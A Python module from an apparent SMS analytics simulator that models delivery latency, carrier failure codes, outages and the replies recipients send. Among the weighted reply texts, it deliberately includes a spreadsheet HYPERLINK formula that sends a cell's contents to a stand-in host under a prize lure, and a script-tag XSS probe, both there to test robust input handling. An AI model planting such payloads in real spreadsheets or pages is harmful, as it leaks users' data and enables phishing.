"""A believable population: who is reached, how fast, with which code it fails, and what people write back.

Nothing here was measured on the real platform. The shapes are those that operators describe: most messages arrive within
seconds, some after minutes, a few when a phone is switched on again the next morning; numbers that are dead stay dead;
carriers have their own codes; nights are slow; and now and then a carrier has a bad afternoon.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cached_property

import numpy as np
import numpy.typing as npt

from masanalytics.simulator.behaviour import Draw, Fates, Reply
from masanalytics.simulator.failure_codes import (
    ALIVE,
    BLOCKED,
    CODES,
    EMPTY,
    EXPIRED,
    FAULT,
    OFF,
    SUSPENDED,
    carrier_index,
    pick_codes,
)
from masanalytics.simulator.random_keys import Floats, Ints, Keys, normal, number_keys, uniform
from masanalytics.timezone import CHINA_OFFSET_S
from masanalytics.vocabulary import CARRIERS

__all__ = ["REPLY_TEXTS", "STATES", "Incident", "Population"]

STATES = ("alive", "empty", "suspended", "blocked", "off")
"""What a number can be, in the order of `masanalytics.simulator.failure_codes`."""

# By carrier, in the order of CARRIERS: median seconds of a quick delivery, share of faults relative to Population.fault,
# share without any report relative to Population.unreported.
_QUICK_S = np.array([3.2, 4.6, 5.5, 7.0, 6.0])
_FAULTS = np.array([0.8, 1.4, 1.1, 2.0, 2.0])
_SILENT = np.array([0.6, 1.4, 1.6, 4.0, 2.0])
_DAY_S = 86_400.0
_LATEST_S = 71 * 3600.0

# What people write back, with weights; among it what no careful system expects.
_WEIGHTED_REPLIES = {
    "T": 14,
    "TD": 7,
    "退订": 9,
    "R": 6,
    "t": 3,
    "td": 2,
    "Ｔ": 1,
    "ＴＤ": 2,
    " TD ": 1,
    "N": 2,
    "QX": 1,
    "0000": 1,
    "T退订": 1,
    "怎么退订？": 2,
    "我要退订，谢谢": 1,
    "别再发了": 4,
    "再发我就投诉了": 2,
    "你们怎么有我的号码": 2,
    "骗子": 1,
    "谢谢": 6,
    "收到": 6,
    "好的": 5,
    "1": 4,
    "请问活动到什么时候？": 4,
    "门店在哪里？": 3,
    "怎么参加": 3,
    "我已经办过了": 2,
    "你发错人了，我不姓王": 1,
    "在开会，稍后联系": 2,
    "👍": 1,
    "嗯": 2,
    '=HYPERLINK("http://example.com/?u="&A1,"点我领奖")': 1,
    "<script>alert('你好')</script>": 1,
    "+86": 1,
}
REPLY_TEXTS = tuple(_WEIGHTED_REPLIES)
"""Every text that can be written back."""

_REPLY_SHARES = np.cumsum(list(_WEIGHTED_REPLIES.values())) / sum(_WEIGHTED_REPLIES.values())


@dataclass(frozen=True)
class Incident:
    """Something that goes wrong at a carrier for a while.

    Parameters
    ----------
    start, end : float
        When (seconds since 1970), by the time of submission.
    share : float
        Share of the messages concerned that fail.
    carrier : str, optional
        One of `masanalytics.vocabulary.CARRIERS`; all of them by default.
    prefixes : tuple of str
        Only numbers that start so (a province, say); all by default.
    code : str
        What the reports say.
    slowdown : float
        How many times as long the others take.
    """

    start: float
    end: float
    share: float = 0.4
    carrier: str = ""
    prefixes: tuple[str, ...] = ()
    code: str = "MI:0043"
    slowdown: float = 1.0

    def concerns(self, batch: Draw, carriers: Ints) -> npt.NDArray[np.bool_]:
        """Return which messages of `batch` it can hit."""
        if not self.start <= batch.instant < self.end:
            return np.zeros(len(carriers), dtype=bool)
        hit = np.ones(len(carriers), dtype=bool) if not self.carrier else carriers == CARRIERS.index(self.carrier)
        if self.prefixes:
            starts = np.zeros(len(carriers), dtype=bool)
            for prefix in self.prefixes:
                starts |= batch.phones // 10 ** (11 - len(prefix)) == int(prefix)
            hit &= starts
        return np.asarray(hit, dtype=bool)


@dataclass(frozen=True)
class Population:
    """People and carriers as a behaviour; every share is of numbers or messages, between 0 and 1.

    Parameters
    ----------
    empty, suspended, blocked, off : float
        Shares of numbers that do not exist, are barred for unpaid bills, are on a carrier's blacklist, are switched off
        most of the time. The same numbers every time, so that the health of a number can be learnt.
    asleep : float
        Share of the others that are switched off at night until the morning.
    fault : float
        Share of messages to reachable numbers that fail all the same. Varies with carrier and prefix.
    unreported : float
        Share of messages that no report ever comes for.
    reply : float
        Share of those reached who write back.
    incidents : tuple of Incident
        What goes wrong, and when.

    Examples
    --------
    >>> phones = np.arange(13800138000, 13800148000)
    >>> keys = number_keys(phones, seed=7)
    >>> fates = Population().draw(Draw(phones, keys, keys, instant=1_767_240_000.0))  # noon in China
    >>> bool(0.88 < (fates.code == 0).mean() < 0.95)
    True
    """

    empty: float = 0.025
    suspended: float = 0.015
    blocked: float = 0.006
    off: float = 0.025
    asleep: float = 0.2
    fault: float = 0.015
    unreported: float = 0.006
    reply: float = 0.025
    incidents: tuple[Incident, ...] = ()

    @cached_property
    def codes(self) -> tuple[str, ...]:
        """Every code a report can carry, ``DELIVRD`` first."""
        return (*CODES, *dict.fromkeys(i.code for i in self.incidents if i.code not in CODES))

    def draw(self, batch: Draw) -> Fates:
        """Return the fate of each message of `batch`."""
        carriers = carrier_index(batch.phones)
        states = self._states(batch.numbers)
        states[batch.phones < 0] = EMPTY
        cause, latency = self._reached(batch, carriers, states)
        self._unreachable(batch, states, cause, latency)
        code = pick_codes(cause, carriers, batch.keys, batch.numbers)
        for position, incident in enumerate(self.incidents):
            hit = incident.concerns(batch, carriers) & (cause == ALIVE)
            fails = hit & (uniform(batch.keys, 60 + position) < incident.share)
            code[fails] = self.codes.index(incident.code)
            latency[fails] = 8.0 * np.exp(0.6 * normal(batch.keys[fails], 60 + position))
            latency[hit & ~fails] *= incident.slowdown
        latency = np.floor(np.clip(latency, 1.0, _LATEST_S))
        read = np.where(code == 0, latency, np.inf)
        latency[uniform(batch.keys, 30) < self.unreported * _SILENT[carriers]] = np.inf
        lag = 0.2 + 1.8 * uniform(batch.keys, 31)
        return Fates(self.codes, code, latency, lag, _draw_replies(batch.keys, read, self.reply))

    def state_of(self, phones: Ints, seed: int) -> list[str]:
        """Return what each number is in a simulator with that `seed`: one of `STATES`.

        Examples
        --------
        >>> Population(empty=1.0).state_of(np.array([13800138000]), seed=0)
        ['empty']
        """
        return [STATES[state] for state in self._states(number_keys(phones, seed)).tolist()]

    def _states(self, numbers: Keys) -> Ints:
        """Return the lasting state of each number."""
        edges = np.cumsum([self.empty, self.suspended, self.blocked, self.off])
        state = np.searchsorted(edges, uniform(numbers, 1), side="right")
        return np.asarray((state + 1) % len(STATES), dtype=np.int64)

    def _reached(self, batch: Draw, carriers: Ints, states: Ints) -> tuple[Ints, Floats]:
        """Return cause and latency of messages to numbers that can be reached: mostly quick, sometimes slow."""
        # By whole hours, so that a run a minute later still has the same fates.
        hour = (batch.instant + CHINA_OFFSET_S) % _DAY_S // 3600.0 + 0.5
        busy = 1.0 + 0.8 * np.exp(-(((hour - 10.0) / 1.2) ** 2)) + 0.6 * np.exp(-(((hour - 19.0) / 1.5) ** 2))
        province = np.exp(0.35 * normal(number_keys(batch.phones // 10_000, 5), 1))
        pace = uniform(batch.keys, 10)
        slow, medium = pace < 0.02 * busy, pace < 0.09 * busy
        median = np.where(slow, 2400.0, np.where(medium, 70.0, _QUICK_S[carriers] * busy * province**0.5))
        spread = np.where(slow, 1.1, np.where(medium, 0.9, 0.5))
        latency = median * np.exp(spread * normal(batch.keys, 11))
        fails = uniform(batch.keys, 12) < self.fault * _FAULTS[carriers] * province * busy**0.5
        latency[fails] = 4.0 * np.exp(0.9 * normal(batch.keys[fails], 13))
        dark = _darkness(hour)
        if dark:
            sleeps = (states == ALIVE) & ~fails & (uniform(batch.keys, 14) < self.asleep * dark)
            morning = (8.2 - hour) % 24.0 * 3600.0
            latency[sleeps] = morning + 1200.0 * np.exp(0.8 * normal(batch.keys[sleeps], 15))
        return np.where(fails, FAULT, ALIVE), latency

    def _unreachable(self, batch: Draw, states: Ints, cause: Ints, latency: Floats) -> None:
        """Write into `cause` and `latency` what becomes of messages to numbers that are not simply there."""
        dead = (states == EMPTY) | (states == SUSPENDED) | (states == BLOCKED)
        cause[dead] = states[dead]
        latency[dead] = 3.0 * np.exp(0.7 * normal(batch.keys[dead], 20))
        away = np.flatnonzero(states == OFF)
        keys = batch.keys[away]
        back = 6000.0 * np.exp(1.3 * normal(keys, 21))
        gone = (uniform(keys, 22) < 0.35) | (back > 2 * _DAY_S)
        latency[away] = np.where(gone, 2 * _DAY_S + 30.0 * uniform(keys, 23), back)
        cause[away] = np.where(gone, EXPIRED, ALIVE)


def _darkness(hour: float) -> float:
    """Return how much of the night it is: 1 in its middle, 0 by day."""
    return float(np.interp(hour, [0.0, 5.5, 8.0, 22.0, 24.0], [1.0, 1.0, 0.0, 0.0, 1.0]))


def _draw_replies(keys: Keys, received: Floats, share: float) -> tuple[Reply, ...]:
    """Return the replies to messages whose text arrived after `received` seconds (infinite: never).

    Half of them come within three minutes of the message, some the next day.
    """
    chosen = np.flatnonzero((uniform(keys, 40) < share) & np.isfinite(received))
    if not len(chosen):
        return ()
    writers = keys[chosen]
    after = received[chosen] + 5.0 + 170.0 * np.exp(1.4 * normal(writers, 41))
    texts = np.searchsorted(_REPLY_SHARES, uniform(writers, 42), side="right")
    return tuple(
        Reply(index, seconds, REPLY_TEXTS[text])
        for index, seconds, text in zip(chosen.tolist(), after.tolist(), texts.tolist(), strict=True)
    )
